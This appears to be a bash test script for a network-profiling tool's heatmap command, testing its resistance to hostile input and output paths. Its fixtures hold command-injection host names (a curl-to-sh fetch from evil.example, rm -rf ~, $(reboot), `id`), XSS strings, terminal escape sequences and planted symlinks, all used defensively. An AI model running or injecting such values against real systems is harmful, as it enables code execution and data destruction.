#!/usr/bin/env bash
# heatmap (and the commands that print to standard output) against hostile
# input and outputs, no host contacted: the page is written only through a
# new file beside it and only over a writable regular file (a planted
# symlink, a FIFO, a device, a read-only file are refused; a file's mode is
# kept); input that is not records (/dev/zero) stops with a clear error in
# bounded memory; more hosts than a page can show are left out and said so
# (a run.json's machines too, after the records' hosts);
# --strict on a FIFO whose writer holds it open stops at once; NUL in a
# string is refused, the last of duplicate keys wins; absurd times
# are no time; kind, metric and host names reach the terminal without
# control characters (C1 and bytes that are not UTF-8 included, in --text
# and --metrics alike); write errors on standard output exit 1 (heatmap
# --text, plan --json, check); the diagnosis' advice quotes a hostile
# host name where it offers a command line; thousands of malformed lines
# are warned of in a few.
. "$(dirname "$0")/lib.sh"
require_cmd jq mkfifo /usr/bin/time

T=$NETPROF_TEST_TMP/heatmap-hostile
rm -rf "$T"
mkdir -p "$T"
cd "$T" || exit 1
in=$NETPROF_FIXTURES/heatmap/collect.jsonl
np() { "$NETPROF_BIN" "$@"; }

# --- the output path ------------------------------------------------------

echo secret >target
ln -s target link.html
assert_status 2 np heatmap -i "$in" -o link.html
assert_contains "$OUT" "link.html is a symbolic link"
assert_eq secret "$(cat target)" "the link's target is untouched"
[ -L link.html ] || fail "the symlink was replaced"

# --diagnosis-json FILE is written as the page is: a planted link refused
# before the records are read, its target unchanged; "-" is standard
# output alone, with no page written beside it
ln -s target link.json
assert_status 2 np heatmap -i "$in" --text --diagnosis-json link.json
assert_contains "$OUT" "--diagnosis-json link.json is a symbolic link"
assert_eq secret "$(cat target)" "the diagnosis' link's target is untouched"
[ -L link.json ] || fail "the diagnosis' symlink was replaced"
mkdir dash && (cd dash && np heatmap -i "$in" --diagnosis-json - >../dash.json)
assert_eq '"error"' "$(jq .worst dash.json)" "--diagnosis-json -: the findings"
assert_eq "" "$(ls -A dash)" "--diagnosis-json - writes no page"
rm -r dash dash.json

mkfifo fifo.html
assert_status 2 np heatmap -i "$in" -o fifo.html
assert_contains "$OUT" "fifo.html is not a regular file (a FIFO)"
[ -p fifo.html ] || fail "the FIFO was replaced"

assert_status 2 np heatmap -i "$in" -o /dev/null
assert_contains "$OUT" "/dev/null is not a regular file (a device)"
[ -c /dev/null ] || fail "/dev/null is no longer a device"

mkdir dir.html
assert_status 2 np heatmap -i "$in" -o dir.html
assert_contains "$OUT" "dir.html is not a regular file (a directory)"

echo old >ro.html
chmod 444 ro.html
assert_status 2 np heatmap -i "$in" -o ro.html
assert_contains "$OUT" "ro.html is read-only"
assert_eq old "$(cat ro.html)"

echo old >keep.html
chmod 640 keep.html
assert_status 0 np heatmap -i "$in" -o keep.html
assert_eq 640 "$(stat -c %a keep.html)" "a replaced page keeps its mode"
assert_file_contains keep.html "<!DOCTYPE html>"

# The old predictable temporary name, planted as a link, is not followed.
ln -s target new.html.tmp
assert_status 0 np heatmap -i "$in" -o new.html
assert_eq secret "$(cat target)" "a link at new.html.tmp is not followed"
assert_eq 644 "$(umask 022; np heatmap -i "$in" -o umask.html 2>/dev/null; stat -c %a umask.html)" \
    "a new page gets 0666 less the umask"
assert_eq "" "$(find . -name '.*.html.*')" "no temporary file left behind"

# Missing directories are made, as upstream makes them; one that cannot be
# made (a file in the way) is refused with the reason.
assert_status 0 np heatmap -i "$in" -o missing-dir/sub/page.html
assert_file_contains missing-dir/sub/page.html "<html"
touch not-a-dir
assert_status 2 np heatmap -i "$in" -o not-a-dir/page.html
assert_contains "$OUT" "not-a-dir"

# --- input that is not records, and too much of it ----------------------------

# Peak memory in KiB of a command (GNU time; ulimit -v would stop ASan).
peak_kib() { sed -n 's/^peak_kib=//p' <<<"$OUT"; }
assert_status 2 /usr/bin/time -f peak_kib=%M timeout 60 "$NETPROF_BIN" heatmap -i /dev/zero --text
assert_contains "$OUT" "/dev/zero:1: a line longer than 1 MiB: not a file of records"
[ "$(peak_kib)" -lt 300000 ] || fail "/dev/zero took $(peak_kib) KiB"

for i in $(seq 1 600); do
	printf '{"kind":"ping","source":"s%d","target":"t%d","ok":true,"metrics":{"avg":1}}\n' "$i" "$i"
done >many.jsonl
assert_status 0 np heatmap -i many.jsonl -o many.html
assert_contains "$OUT" "88 records left out: a page shows at most 1024 hosts"
assert_contains "$OUT" "wrote many.html (1024 hosts"
assert_file_contains many.html "88 records left out"

# The cells' memory budget: past it, an error with the file, the line, the
# budget and the fix, and no page (1,024 hosts' grid of ping cells is
# more than 16 MiB).
assert_status 2 /usr/bin/time -f peak_kib=%M "$NETPROF_BIN" heatmap -i many.jsonl -o over.html --max-memory 16
assert_contains "$OUT" "many.jsonl:257: the heatmap's cells would take more than its memory budget of 16 MiB"
assert_contains "$OUT" "or a larger budget with --max-memory MIB"
assert_not_contains "$OUT" "out of memory"
[ ! -e over.html ] || fail "a page was written past the budget"
[ "$(peak_kib)" -lt 100000 ] || fail "a budget of 16 MiB took $(peak_kib) KiB"

# A small run.json naming 3,000 machines: the page keeps to its bound.
{
	printf '{"run_id": "big", "convergence": {}, "machines": ['
	seq -s, -f '"m%.0f"' 1 3000
	printf ']}\n'
} >big-run.json
jq -e '.machines | length == 3000' big-run.json >/dev/null || fail "big-run.json is not the run.json meant"
assert_status 0 /usr/bin/time -f peak_kib=%M "$NETPROF_BIN" heatmap -i big-run.json -i "$in" -o big.html
[ "$(peak_kib)" -lt 300000 ] || fail "a run.json of 3,000 machines took $(peak_kib) KiB"
assert_contains "$OUT" "wrote big.html (1024 hosts, 2 kinds, 26 records"
assert_not_contains "$OUT" "records left out" "hosts with records come before a run's machines without"
assert_contains "$OUT" "1980 of run.json's machines left out: a page shows at most 1024 hosts"
assert_file_contains big.html "1980 of run.json's machines left out"
# Records of two hosts met in display order, then more machines than the
# grids were grown for while folding (found by fuzzing: a heap overflow,
# exit 139): every grid covers every host.
printf '%s\n' '{"kind":"ping","source":"a","target":"b","ok":true,"metrics":{"avg":1}}' >few.jsonl
assert_status 0 np heatmap -i few.jsonl -i big-run.json -o few.html
assert_contains "$OUT" "wrote few.html (1024 hosts, 1 kind, 1 record"
assert_status 0 np heatmap -i few.jsonl -i big-run.json --aggregate median --text
printf '{"run_id": "small", "convergence": {}, "machines": [%s]}\n' \
    "$(seq -s, -f '"m%.0f"' 1 40)" >small-run.json
assert_status 0 np heatmap -i few.jsonl -i small-run.json -o small.html
assert_contains "$OUT" "wrote small.html ("
assert_not_contains "$OUT" "left out"

# --- a stop on a FIFO whose writer holds it open ---------------------------
# --strict's stop (and the budget's) ends the reading at once: the reader
# thread no longer reads on to the input's end, which a FIFO's writer that
# holds it open never gives (44 MiB, the malformed line after 40, then
# nothing more for a minute).
mkfifo held.fifo
python3 -c '
import sys, time
line = "{\"kind\":\"ping\",\"source\":\"a\",\"target\":\"b\",\"ok\":true,\"metrics\":{\"avg\":1}}\n"
try:
    with open(sys.argv[1], "w") as f:
        f.write(line * ((40 << 20) // len(line)) + "not json\n" +
            line * ((4 << 20) // len(line)))
        f.flush()
        time.sleep(60)
except BrokenPipeError:
    pass' held.fifo &
writer=$!
at_exit "kill $writer 2>/dev/null"
assert_status 2 timeout 40 "$NETPROF_BIN" heatmap -i held.fifo --strict --text
assert_contains "$OUT" "held.fifo:$(( (40 << 20) / 72 + 1 )):"
assert_contains "$OUT" "(--strict: stopping)"
kill $writer 2>/dev/null || true
wait $writer 2>/dev/null || true

# --- NUL, duplicate keys, absurd times, names with escape sequences ----------

cat >odd.jsonl <<'JSONL'
{"kind":"ping","source":"a\u0000x","target":"b","ok":true,"metrics":{"avg":1}}
{"kind":"ping","source":"a","target":"b","ok":true,"metrics":{"avg":1},"ok":false,"error":"last wins"}
{"kind":"ping","source":"b","target":"a","ok":true,"timestamp":"2026-11-30T19:17:1e300+00:00","metrics":{"avg":2}}
{"kind":"ping","source":"a","target":"c","ok":true,"timestamp":"2026-11-30T19:17:inf+00:00","ended_at":1e300,"metrics":{"avg":3}}
{"kind":"\u001b[31mred","source":"a","target":"b","ok":true,"metrics":{"\u001b]0;title\u0007":1}}
JSONL
assert_status 0 np heatmap -i odd.jsonl --text
assert_contains "$OUT" 'odd.jsonl:1: column 27: a \u0000 (NUL) in a string is not supported; line skipped'
assert_not_contains "$OUT" "a?x" "the NUL line is not read"
assert_contains "$OUT" "a -> b  ping  1/1  tool_failed: last wins" "the last \"ok\" wins"
assert_contains "$OUT" "?[31mred: ?]0;title?"
[ "$(printf '%s' "$OUT" | tr -d -c '\033\007' | wc -c)" = 0 ] ||
    fail "a control character from the input reached the terminal"
assert_status 2 np heatmap -i odd.jsonl --text --metric nope --kind ping
assert_status 2 np heatmap -i odd.jsonl --text --metric nope
[ "$(printf '%s' "$OUT" | tr -d -c '\033\007' | wc -c)" = 0 ] ||
    fail "a metric name's control characters reached an error message"

# Host names and an error that are terminal control sequences: ESC and BEL
# (a title set), a C1 CSI (U+009B), a lone 0x9B byte. --text shows each
# as a space ('?' in a fixed-width column), --metrics as U+FFFD: the exact
# bytes written, and none of those bytes anywhere.
printf '%s\n' '{"kind":"ping","source":"n3\u001b]0;TITLE\u0007","target":"n4\u009b31m","ok":true,"metrics":{"avg":1.5}}' \
    '{"kind":"ping","source":"n4\u009b31m","target":"n3\u001b]0;TITLE\u0007","ok":false,"error":"x\u009b2J\u001b[31my"}' >esc.jsonl
printf '{"kind":"ping","source":"n5\x9bx","target":"n4\\u009b31m","ok":true,"metrics":{"avg":1}}\n' >>esc.jsonl
no_controls() {	# FILE: no ESC, BEL, C1 CSI or lone 0x9B in it
	[ "$(LC_ALL=C tr -d -c '\033\007\233' <"$1" | wc -c)" = 0 ] ||
	    fail "$1: a control sequence from the records reached the output"
}
"$NETPROF_BIN" heatmap -i esc.jsonl --text >esc.txt 2>/dev/null
no_controls esc.txt
LC_ALL=C grep -qxF '  1 n3?]0;TITLE?  2 n4?31m  3 n5?x' esc.txt ||
    fail "the key's names: $(grep -a ' 1 n3' esc.txt | od -c | head)"
LC_ALL=C grep -qxF '  n4 31m -> n3 ]0;TITLE   ping  1/1  tool_failed: x 2J [31my' esc.txt ||
    fail "the failures' line: $(grep -a ' -> ' esc.txt | od -c | head)"
"$NETPROF_BIN" heatmap -i esc.jsonl --metrics >esc.prom 2>/dev/null
no_controls esc.prom
LC_ALL=C grep -qxF $'netprof_ping_rtt_avg_seconds{source="n3\xef\xbf\xbd]0;TITLE\xef\xbf\xbd",target="n4\xef\xbf\xbd31m"} 0.0015' esc.prom ||
    fail "the metrics' labels: $(grep -a 'rtt_avg.*n3' esc.prom | od -c | head)"
LC_ALL=C grep -qxF $'netprof_host_up{host="n5\xef\xbf\xbdx"} 1' esc.prom ||
    fail "a byte that is not UTF-8: $(grep -a 'host=.n5' esc.prom | od -c | head)"

# The diagnosis' advice names hosts of the records in command lines: a
# name that breaks the name rule is one quoted word there (a good one is
# as it is), and a record's command is not offered to be run as it is.
A='x;curl${IFS}evil.example|sh' B="y\$(reboot)'q" C='z`id`' D='w&&rm -rf ~'
rec() {	# SOURCE TARGET KIND [METRICS|ERROR CLASS]
	if [ $# = 4 ]; then
		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --argjson m "$4" \
		    '{kind:$k,source:$s,target:$t,ok:true,metrics:$m}'
	else
		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --arg e "$4" \
		    --arg c "$5" '{kind:$k,source:$s,target:$t,ok:false,error:$e,error_class:$c}'
	fi
}
for s in a b c d "$A" "$B" "$C" "$D"; do
	for t in a b c d "$A" "$B" "$C" "$D"; do
		[ "$s" = "$t" ] && continue
		case $s in
		"$B") rec "$s" "$t" ping "authentication failed" auth ;;
		"$C") rec "$s" "$t" ping "could not parse the output" tool_failed ;;
		"$D") rec "$s" "$t" ping "auth failed" auth
		      rec "$s" "$t" iperf3 "auth failed" auth ;;
		*) rec "$s" "$t" ping '{"avg":1}' ;;
		esac
		m=940; [ "$s" = "$A" ] && [ "$t" = a ] && m=100
		[ "$s" = "$D" ] || rec "$s" "$t" iperf3 "{\"mbps\":$m}"
	done
done >advice.jsonl
"$NETPROF_BIN" heatmap -i advice.jsonl --text >advice.txt 2>/dev/null
for want in \
    "    try: Run netprof check --config FILE --hosts 'y\$(reboot)'\\''q': it names the reason (sshd, its port, the host key, the login) and the fix." \
    "    try: Check w&&rm -rf ~'s sshd and what guards its SSH port; netprof check --config FILE --hosts 'w&&rm -rf ~' names the reason." \
    "    try: One throughput test, one way, and nothing else on the pair says so: a short TCP test now and then collapses. Measure the pair again (netprof collect --iperf -H 'x;curl\${IFS}evil.example|sh',a, or read two runs together with netprof heatmap --aggregate median); if it holds, check the path x;curl\${IFS}evil.example|sh -> a (mtr both ways, a rule that shapes it)." \
    "    try: Run the probe by hand to see the tool's whole output on z\`id\`; the record's command field is the line as the records file gives it (anyone may have written it): read it before you run it."; do
	grep -qxF -- "$want" advice.txt ||
	    fail "the advice: want '$want'; the text has: $(grep 'try:' advice.txt)"
	TEST_CHECKS=$((TEST_CHECKS + 1))
done

# A failed record of a host against itself (found by fuzzing: a crash).
printf '%s\n' '{"kind":"ping","source":"a","target":"a","ok":false,"error":"x"}' \
    '{"kind":"ping","source":"a","target":"b","ok":true,"metrics":{"avg":1}}' >self.jsonl
assert_status 0 np heatmap -i self.jsonl --text -o self.html
assert_contains "$OUT" "Failures: none."

# --- write errors on standard output --------------------------------------

assert_status 1 bash -c "$NETPROF_BIN heatmap -i $in --text >/dev/full"
assert_contains "$OUT" "standard output: write error (No space left on device)"
cat >local.json <<'JSON'
{"transport": "local", "machines": [{"name": "a", "address": "127.0.0.1"},
                                    {"name": "b", "address": "127.0.0.2"}]}
JSON
assert_status 1 bash -c "$NETPROF_BIN plan --config local.json --json >/dev/full"
assert_contains "$OUT" "standard output: write error (No space left on device)"
assert_status 0 np plan --config local.json --json
assert_status 1 bash -c "$NETPROF_BIN check --config local.json >/dev/full"
assert_contains "$OUT" "standard output: write error (No space left on device)"

# --- sites and --compare: bad input gets an error naming the fix ------------

printf '{"machines": [{"name": "alpha", "address": "198.18.0.1", "site": "<b>zrh</b>"}]}\n' >bad-site.json
assert_status 2 np heatmap -i "$in" --config bad-site.json --text
assert_contains "$OUT" 'bad-site.json: machines[0].site: "<b>zrh</b>" is not a valid site'
assert_status 2 np heatmap -i "$in" --group-by country --text
assert_contains "$OUT" "--group-by: 'country' is not site, rtt or none"
assert_status 2 np heatmap -i "$in" --group-rtt -3 --text
assert_contains "$OUT" "--group-rtt: '-3' is not a round trip in ms above 0"
assert_status 2 np heatmap -i "$in" --compare missing-old.jsonl --text
assert_contains "$OUT" "missing-old.jsonl"
assert_status 2 np heatmap -i "$in" --compare "$in" -o "$in"
assert_contains "$OUT" "is the input"
# A run.json's names reach the timeline as text: no markup on the page, no
# control byte on the terminal.
printf '%s\n' '{"run_id": "r\u001b[2J", "phases": {}, "phase_times": {"<img src=x>": [0, 5]},' \
    ' "machines": [{"name": "<script>alert(1)</script>", "site": "s\u001b]0;x\u0007",' \
    '  "phase_times": {"init\u001b[31m": [0, 2]}, "phases": {"init\u001b[31m": "failed"}}]}' >evil-run.json
assert_status 0 np heatmap -i "$in" -i evil-run.json -o evil.html --text
assert_contains "$OUT" "Timeline of run r?[2J"
[ "$(grep -c $'\033' <<<"$OUT")" = 0 ] || fail "an escape sequence reached the terminal"
assert_file_contains evil.html '&lt;img src=x&gt;'
assert_file_contains evil.html '&lt;script&gt;alert(1)&lt;&#47;script&gt;'
grep -q '<img src=x>\|<script>alert' evil.html && fail "markup from run.json reached the page"

# Thousands of malformed lines: a file's first five are warned of, the
# rest in one line with their count and the first of them; the total is
# said at the end (and a file's count is its own).
{ grep -m3 '^{' "$in"; for i in $(seq 5000); do echo "{bad $i"; done; } >bad.jsonl
{ grep -m3 '^{' "$in"; for i in $(seq 6); do echo "{bad $i"; done; } >six.jsonl
assert_status 0 np heatmap -i bad.jsonl -i six.jsonl --text
warned=$(grep -c '^netprof: warning: ' <<<"$OUT")
assert_eq 13 "$warned" "six lines per file and the total, not 5,007"
assert_eq 5 "$(grep -c 'bad.jsonl:[0-9]*: .*; line skipped$' <<<"$OUT")"
assert_contains "$OUT" "bad.jsonl:8: column 2: expected a member name in double quotes; line skipped"
assert_not_contains "$OUT" "bad.jsonl:9: "
assert_contains "$OUT" "bad.jsonl: 4995 more malformed lines skipped (the first at line 9)"
assert_contains "$OUT" "six.jsonl: 1 more malformed line skipped (the first at line 9)"
assert_contains "$OUT" "skipped 5006 malformed lines (--strict makes this an error)"
assert_status 2 np heatmap -i bad.jsonl --text --strict
assert_contains "$OUT" "bad.jsonl:4: column 2: expected a member name in double quotes (--strict: stopping)"
assert_not_contains "$OUT" "more malformed"

# A run compared with itself: nothing got worse.
assert_status 0 np heatmap -i "$in" --compare "$in" --text
assert_contains "$OUT" "Compared with the old run: no pair worse."
test_pass
